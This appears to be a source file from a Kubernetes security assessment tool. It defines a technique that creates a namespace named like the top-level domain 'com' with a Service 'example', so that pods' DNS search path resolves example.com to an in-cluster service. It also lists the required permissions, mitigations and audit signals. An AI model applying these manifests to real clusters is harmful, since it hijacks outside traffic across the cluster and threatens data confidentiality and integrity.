// With ndots 5 a name such as example.com is first tried below svc.cluster.local, where Service example of namespace com
// answers. Both rights must hold cluster-wide: the namespace does not exist yet.
#include "attack/technique.h"
#include "attack/technique/build.h"

static bool body(struct payload *p)
{
	if (p->alternative == 0)
		p->object = build_doc(p, "{apiVersion: 'v1', kind: 'Namespace', metadata: {name: 'com'}}");
	else
		p->object = build_doc(p, "{apiVersion: 'v1', kind: 'Service', metadata: {name: 'example', namespace: 'com'}, "
			"spec: {selector: {app: 'bulkhead-probe'}, ports: [{port: 443}]}}");
	return true;
}

const struct technique technique_dns_tld_namespace = {
	.id = "dns-tld-namespace",
	.title = "Name a namespace like a top-level domain",
	.kind = TECHNIQUE_PATH,
	.boundary = BOUNDARY_NETWORK,
	.harm = HARM_CONFIDENTIALITY | HARM_INTEGRITY,
	.attack = "T1557,T1565.002",
	.matrix = "MS-TA9035",
	.needs = "create on namespaces and on services in them",
	.gives = "answers for outside host names in the pods of the whole cluster",
	.fixes =
		"Reserve top-level domain names by admission policy\n"
		"End outside names with a dot, or set ndots to 1",
	.audit = "create of namespaces named like a top-level domain",
	.source = "kubernetes.io docs concepts/services-networking/dns-pod-service, search path",
	.from = POSITION_IDENTITY,
	.effect = EFFECT_TRAFFIC,
	.grant = {
		{ "create", "", "namespaces", .scope = SCOPE_CLUSTER },
		{ "create", "", "services", .scope = SCOPE_CLUSTER },
	},
	.body = body,
};
